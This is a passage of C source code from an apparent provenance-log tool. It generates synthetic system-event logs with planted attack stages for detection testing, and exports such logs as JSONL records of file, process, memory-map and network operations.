{
	struct gen *g;
	struct attack a = { 0 };
	uint64_t n, committed = 0;
	int err;

	if (!w || !o || !out)
		return bt_error_set(BT_EINVAL, "bt_gen: missing argument");
	if (o->events > (uint64_t)1 << 40)
		return bt_error_set(BT_EINVAL,
				    "too many events to generate: %llu",
				    (unsigned long long)o->events);
	g = calloc(1, sizeof(*g));
	if (!g)
		return bt_error_set(BT_ENOMEM, "out of memory");
	if ((err = link_addrs(o->send_to, "send_to", g->send_to)) ||
	    (err = link_addrs(o->recv_from, "recv_from", g->recv_from))) {
		free(g);
		return err;
	}
	g->w = w;
	g->rng = o->seed ^ 0x6274726b67656e31ull;   /* "btrkgen1" */
	g->now = o->start ? o->start : GEN_DEFAULT_START;
	g->nobj = bt_log_writer_objects(w);
	g->next_ino = 131073;
	g->next_pid = 1;
	n = o->events;
	g->target = n;
	/* About one configuration file per 2000 events and one data file per
	 * 250, within bounds: each costs a file record and a path label. */
	g->nconf = (uint32_t)(n / 2000 < 64 ? 64 : n / 2000 > 4096 ? 4096 :
			      n / 2000);
	g->ndata = (uint32_t)(n / 250 < 256 ? 256 : n / 250 > (1u << 22) ?
			      (1u << 22) : n / 250);
	g->plant[0] = n / 100 * 55;
	g->plant[1] = n / 100 * 60;
	g->plant[2] = n / 100 * 65;
	if (g->recv_from[0][0]) {
		/* the entry when a send_to log of as many events sends */
		g->plant[0] = n / 100 * 65;
		g->plant[1] = n / 100 * 70;
		g->plant[2] = n / 100 * 75;
	}

	note_source(g, o);
	mkworld(g);
	boot(g);
	while (g->events < n && !g->err) {
		if (g->stage < 3 && g->events >= g->plant[g->stage])
			attack_stage(g, &a);
		step(g);
		if (g->events - committed >= 65536) {
			bt_log_writer_commit(w);
			committed = g->events;
		}
	}
	while (g->stage < 3 && !g->err)
		attack_stage(g, &a);
	bt_log_writer_commit(w);

	err = g->err;
	memset(out, 0, sizeof(*out));
	out->events = g->events;
	out->objects = g->nobj;
	snprintf(out->detection, sizeof(out->detection), "file:%s",
		 g->recv_from[0][0] ? ATTACK_RECEIVED : ATTACK_LOOT);
	snprintf(out->entry, sizeof(out->entry), "%s",
		 g->recv_from[0][0] ? g->recv_from[0] : ATTACK_ENTRY);
	free(g);
	return err;
}

/* ---- the same log as JSONL observations -------------------------------- */

#define JSONL_PIDS 4194304u  /* pids tracked for reuse (Linux's pid_max) */

struct jobj {
	const struct bt_rec_head *rec;  /* the object record */
	const char *name;               /* path (last PATH label), address */
};

struct jsonl {
	FILE *f;
	struct jobj *o;
	uint32_t nobj;
	uint32_t *owner;    /* owner[pid]: the process object using it */
	uint64_t lines;
	char unknown[32];
};

static void put_str(FILE *f, const char *s)
{
	putc('"', f);
	for (; *s; s++) {
		unsigned char c = (unsigned char)*s;

		if (c == '"' || c == '\\')
			fprintf(f, "\\%c", c);
		else if (c < 0x20 || c == 0x7f)
			fprintf(f, "\\u%04x", c);
		else
			putc(c, f);
	}
	putc('"', f);
}

static const char *jname(struct jsonl *j, uint32_t id)
{
	const struct bt_rec_head *h = j->o[id].rec;

	if (h->type == BT_REC_PAGE || h->type == BT_REC_REGION) {
		id = h->type == BT_REC_PAGE ?
		     ((const struct bt_rec_page *)h)->file :
		     ((const struct bt_rec_region *)h)->file;
	}
	if (j->o[id].name)
		return j->o[id].name;
	snprintf(j->unknown, sizeof(j->unknown), "/unknown/%u", id);
	return j->unknown;
}

/* The pid of process `id`, after an exit line for an older process that
 * held the same pid (so the importer does not merge the two). */
static uint32_t jpid(struct jsonl *j, uint32_t id, uint64_t time)
{
	uint32_t pid = ((const struct bt_rec_process *)j->o[id].rec)->pid;

	if (pid < JSONL_PIDS) {
		if (j->owner[pid] && j->owner[pid] != id) {
			fprintf(j->f, "{\"time\":%llu,\"op\":\"exit\","
				"\"pid\":%u}\n", (unsigned long long)time, pid);
			j->lines++;
		}
		j->owner[pid] = id;
	}
	return pid;
}

static void jline(struct jsonl *j, const struct bt_rec_event *e,
		  const char **rename_old)
{
	static const char *const opname[BT_OP_MAX + 1] = {
		[BT_OP_EXEC] = "exec", [BT_OP_READ] = "read",
		[BT_OP_WRITE] = "write", [BT_OP_TRUNCATE] = "truncate",
		[BT_OP_CREATE] = "create", [BT_OP_UNLINK] = "unlink",
		[BT_OP_PAGE_READ] = "page_read",
		[BT_OP_PAGE_WRITE] = "page_write", [BT_OP_CONNECT] = "connect",
		[BT_OP_ACCEPT] = "accept", [BT_OP_RECV] = "recv",
		[BT_OP_SEND] = "send",
	};
	unsigned long long t = (unsigned long long)e->time;
	const struct bt_rec_region *rg = NULL;
	uint32_t proc, other, cpid;
	bool in;

	/* kinds fit the op (the reader checked): the process is the effect
	 * of inflows and the cause of outflows */
	in = j->o[e->effect].rec->type == BT_REC_PROCESS;
	proc = in ? e->effect : e->cause;
	other = in ? e->cause : e->effect;
	if ((e->op == BT_OP_MMAP_READ || e->op == BT_OP_MMAP_WRITE) &&
	    e->aux && e->aux <= j->nobj &&
	    j->o[e->aux].rec->type == BT_REC_REGION)
		rg = (const void *)j->o[e->aux].rec;

	switch (e->op) {
	case BT_OP_LOOKUP:
	case BT_OP_LINK:        /* the log keeps only the new name */
		return;
	case BT_OP_MMAP_WRITE:
		if (rg && (rg->prot & BT_PROT_READ))
			return;  /* its MMAP_READ's line said "rw" */
		/* fall through */
	case BT_OP_MMAP_READ:
		fprintf(j->f, "{\"time\":%llu,\"op\":\"mmap\",\"pid\":%u,"
			"\"path\":", t, jpid(j, proc, e->time));
		put_str(j->f, jname(j, other));
		fprintf(j->f, ",\"shared\":%s,\"prot\":\"%s\"",
			e->flags & BT_EVF_SHARED ? "true" : "false",
			e->op == BT_OP_MMAP_WRITE ||
			(rg && (rg->prot & BT_PROT_WRITE)) ? "rw" : "r");
		if (rg)
			fprintf(j->f, ",\"offset\":%llu,\"length\":%llu",
				(unsigned long long)rg->first * 4096,
				(unsigned long long)rg->count * 4096);
		fputs("}\n", j->f);
		break;
	case BT_OP_RENAME:
		/* the old name's event, then the new name's */
		if (!*rename_old) {
			*rename_old = jname(j, other);
			return;
		}
		fprintf(j->f, "{\"time\":%llu,\"op\":\"rename\",\"pid\":%u,"
			"\"path\":", t, jpid(j, proc, e->time));
		put_str(j->f, *rename_old);
		fputs(",\"new_path\":", j->f);
		put_str(j->f, jname(j, other));
		fputs("}\n", j->f);
		*rename_old = NULL;
		break;
	case BT_OP_FORK:
		cpid = jpid(j, e->effect, e->time);
		fprintf(j->f, "{\"time\":%llu,\"op\":\"fork\",\"pid\":%u,"
			"\"child\":%u}\n", t, jpid(j, e->cause, e->time), cpid);
		break;
	default:
		if (e->op > BT_OP_MAX || !opname[e->op])
			return;
		fprintf(j->f, "{\"time\":%llu,\"op\":\"%s\",\"pid\":%u,%s", t,
			opname[e->op], jpid(j, proc, e->time),
			e->op >= BT_OP_CONNECT ? "\"remote\":" : "\"path\":");
		put_str(j->f, jname(j, other));
		if (e->op == BT_OP_PAGE_READ || e->op == BT_OP_PAGE_WRITE)
			fprintf(j->f, ",\"page\":%llu", (unsigned long long)
				((const struct bt_rec_page *)j->o[other].rec)
				->index);
		else if (e->aux && e->op != BT_OP_EXEC)
			fprintf(j->f, ",\"bytes\":%u", e->aux);
		if (e->op == BT_OP_TRUNCATE && (e->flags & BT_EVF_EMPTY))
			fputs(",\"length\":0", j->f);  /* it empties the file */
		fputs("}\n", j->f);
		break;
	}
	j->lines++;
}

int bt_gen_jsonl(FILE *out, const char *path, uint64_t *out_lines)
{
	struct jsonl j = { .f = out };
	struct bt_log *log = NULL;
	struct bt_log_stats st;
	struct bt_log_iter it;
	const struct bt_rec_head *h;
	const char *rename_old = NULL;
	uint32_t id = 0;
	int r;

	if (!out || !path)
		return bt_error_set(BT_EINVAL, "bt_gen_jsonl: missing argument");
	r = bt_log_open(&log, path);
	/* the records are kept (j.o[].rec, names) past the next one: they
	 * must stay where bt_log_data() has them */
	if (!r)
		r = bt_log_decode_all(log);
	if (!r)
		r = bt_log_stats(log, &st);
	if (r)
		goto out_log;
	if (st.objects >= UINT32_MAX) {
		r = bt_error_set(BT_ELIMIT, "too many objects in '%s'", path);
		goto out_log;
	}
	j.nobj = (uint32_t)st.objects;
	j.o = calloc((size_t)st.objects + 1, sizeof(*j.o));
	j.owner = calloc(JSONL_PIDS, sizeof(*j.owner));
	if (!j.o || !j.owner) {
		r = bt_error_set(BT_ENOMEM, "out of memory");
		goto out_mem;
	}
	bt_log_iter_init(&it, log);
	while ((r = bt_log_next(&it, &h)) == 1) {
		switch (h->type) {
		case BT_REC_EVENT:
			jline(&j, (const void *)h, &rename_old);
			break;
		case BT_REC_FILENAME:
			j.o[++id].rec = h;
			j.o[id].name = ((const struct bt_rec_filename *)h)->path.s;
			break;
		case BT_REC_ENDPOINT:
			j.o[++id].rec = h;
			j.o[id].name = ((const struct bt_rec_endpoint *)h)->addr.s;
			break;
		case BT_REC_LABEL: {
			const struct bt_rec_label *l = (const void *)h;

			if (l->key == BT_LABEL_PATH && l->object <= id)
				j.o[l->object].name = l->value.s;
			break;
		}
		case BT_REC_NOTE:
		case BT_REC_SEAL:
			break;
		default:
			j.o[++id].rec = h;
			break;
		}
	}
	bt_log_iter_release(&it);
	if (r < 0)
		goto out_mem;
	r = 0;
	if (fflush(out) || ferror(out))
		r = bt_error_set_os(BT_EIO, "cannot write the JSONL of '%s'",
				    path);
	if (out_lines)
		*out_lines = j.lines;
out_mem:
	free(j.owner);
	free(j.o);
out_log:
	bt_log_close(log);
	return r;
}
